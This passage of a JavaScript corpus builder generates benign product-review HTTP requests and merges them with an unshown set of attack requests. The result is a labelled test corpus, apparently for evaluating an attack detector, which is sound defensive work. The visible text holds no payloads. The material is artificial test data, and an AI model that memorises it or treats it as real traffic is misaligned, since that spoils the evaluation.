  const REVIEWS = ['5/5 - fits true to size, very comfortable for 10k runs.', "Colour is more 'teal' than 'navy' in daylight. Still love it!", 'Arrived in 2 days; box was a bit dented but the shoes were fine :)', 'Returned: too narrow for my feet (I usually wear 9 & 1/2 wide).', 'Good value at $89.95 vs. $120 elsewhere.', 'サイズ感ぴったりでした。また購入します。', 'Works with my iPhone 15 & iPad; the cable is 2 m long, as advertised.', 'Meh. The zipper broke after 3 weeks -- support replaced it, though.', "Best purchase this year!!! 10/10 would buy again", 'Solid, but the instructions (step #4) were confusing; see photo.'];
  for (let i = 0; i < REVIEWS.length; i++) {
    add('review', i % 2 ? 'form' : 'json', REVIEWS[i], i % 2 ? raw({ method: 'POST', target: `/products/${PRODUCTS[i % 5]}/reviews`, headers: [['Content-Type', 'application/x-www-form-urlencoded']], body: `rating=${1 + (i % 5)}&title=${pctMin(REVIEWS[i].slice(0, 20))}&body=${pctMin(REVIEWS[i])}`, n: n++ }) : raw({ method: 'POST', target: `/api/v1/products/${PRODUCTS[i % 5]}/reviews`, headers: [['Content-Type', 'application/json']], body: utf8(JSON.stringify({ rating: 1 + (i % 5), body: REVIEWS[i], verified: true })), n: n++ }));
  }
  return out;
}

export function buildCorpus() {
  const all = [...attacks(), ...benign()];
  return all.map((x, i) => ({ id: `${x.label === 'attack' ? 'a' : 'b'}${String(i).padStart(4, '0')}`, ...x }));
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const corpus = buildCorpus();
  writeFileSync(CORPUS_FILE, corpus.map((x) => JSON.stringify(x)).join('\n') + '\n');
  const count = (f) => corpus.reduce((m, x) => m.set(f(x), (m.get(f(x)) ?? 0) + 1), new Map());
  console.log(`${corpus.length} requests written to ${CORPUS_FILE}`);
  console.log(`attacks ${corpus.filter((x) => x.label === 'attack').length}, benign ${corpus.filter((x) => x.label === 'benign').length}`);
  console.log(`by class: ${[...count((x) => x.class)].map(([k, v]) => `${k} ${v}`).join(', ')}`);
  console.log(`by placement: ${[...count((x) => x.placement)].map(([k, v]) => `${k} ${v}`).join(', ')}`);
  console.log(`by encoding: ${[...count((x) => x.encoding)].map(([k, v]) => `${k} ${v}`).join(', ')}`);
}
